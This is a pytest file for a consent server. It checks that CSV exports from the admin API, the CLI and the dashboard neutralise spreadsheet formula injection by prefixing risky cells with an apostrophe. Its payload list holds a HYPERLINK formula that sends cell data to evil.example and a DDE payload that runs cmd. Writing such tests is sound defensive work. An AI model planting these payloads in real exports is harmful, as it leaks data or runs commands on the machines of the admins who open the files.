"""Attack: formulas that run when an admin opens the CSV export in a spreadsheet.

A visitor can no longer get one into the log (the Referer a withdrawal records is checked), and
whatever the log holds (rows written by an older server, or straight into the database) every
text cell of the export starting with = + - @, a tab or a CR gets a leading apostrophe.
"""

from __future__ import annotations

from itertools import count

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consent_server.cli import main

from ..conftest import Backend
from .helpers import FORMULA_STARTS, VISITOR, csv_cells, decide, sign_in

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
TEXT_COLUMNS = (
    "consent_id", "created_at", "method", "granted", "denied", "granted_services",
    "denied_services", "policy_version", "language", "page_url", "ip", "user_agent", "origin",
    "request_id", "personal_salt", "personal_digest", "prev_hash", "hash",
)  # fmt: skip


def write_raw_row(backend: Backend, seq: int, text: str) -> None:
    """A row put straight into the log, every text column holding `text` (the request id with
    the seq after it, as request ids are unique)."""

    def literal(value: str) -> str:
        return "'" + value.replace("'", "''") + "'"

    texts = [literal(f"{text}#{seq}" if name == "request_id" else text) for name in TEXT_COLUMNS]
    columns = ", ".join(("seq", "gpc", "schema_version", *TEXT_COLUMNS))
    flag = "FALSE" if backend.name == "postgres" else "0"
    values = ", ".join((str(seq), flag, "1", *texts))
    backend.raw_sql(f"INSERT INTO consent_log ({columns}) VALUES ({values})")


def exported_csv(app, admin_headers) -> str:
    response = app.test_client().get(
        "/api/v1/admin/consents", query_string={"format": "csv"}, headers=admin_headers
    )
    assert response.status_code == 200
    return response.get_data(as_text=True)


def assert_no_live_formula(text: str) -> None:
    for row in csv_cells(text):
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{name} = {cell!r}"


def test_a_withdrawal_cannot_plant_a_formula_through_the_referer(backend_app, admin_headers):
    client = backend_app.test_client()
    decide(client)
    for payload in (text for text in PAYLOADS if "\r" not in text):
        client.delete("/api/v1/consent", headers={"Referer": payload}, environ_base=VISITOR)
        decide(client)

    assert_no_live_formula(exported_csv(backend_app, admin_headers))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_text_column_is_neutralised_in_the_admin_export(
    backend_app, backend, admin_headers, payload
):
    decide(backend_app.test_client())
    write_raw_row(backend, 2, payload)

    rows = csv_cells(exported_csv(backend_app, admin_headers))

    assert_no_live_formula(exported_csv(backend_app, admin_headers))
    hostile = rows[-1]
    for column in TEXT_COLUMNS:
        if column in hostile:
            assert hostile[column].startswith("'" + payload), column


def test_the_cli_export_is_neutralised_too(backend_app, backend, runner, monkeypatch):
    decide(backend_app.test_client())
    write_raw_row(backend, 2, PAYLOADS[0])
    monkeypatch.setenv("CONSENT_DATABASE_URL", backend.url)

    result = runner.invoke(main, ["export", "--format", "csv"])

    assert result.exit_code == 0, result.output
    assert_no_live_formula(result.output)


def test_the_dashboard_download_is_neutralised_too(backend_app, backend):
    decide(backend_app.test_client())
    write_raw_row(backend, 2, PAYLOADS[1])
    admin = backend_app.test_client()
    sign_in(admin)

    download = admin.get("/admin/export.csv")

    assert download.status_code == 200
    assert_no_live_formula(download.get_data(as_text=True))


RAW_SEQS = count(1)
CELL_TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(texts=st.lists(CELL_TEXT, min_size=1, max_size=4))
def test_any_text_comes_back_whole_and_inert(backend_app, backend, admin_headers, texts):
    assert backend_app.test_client().get("/readyz").status_code == 200
    for text in texts:
        write_raw_row(backend, next(RAW_SEQS), text)

    rows = csv_cells(exported_csv(backend_app, admin_headers))[-len(texts) :]

    for row, text in zip(rows, texts, strict=True):
        expected = "'" + text if text.startswith(FORMULA_STARTS) else text
        assert row["user_agent"] == expected
        assert row["page_url"] == expected
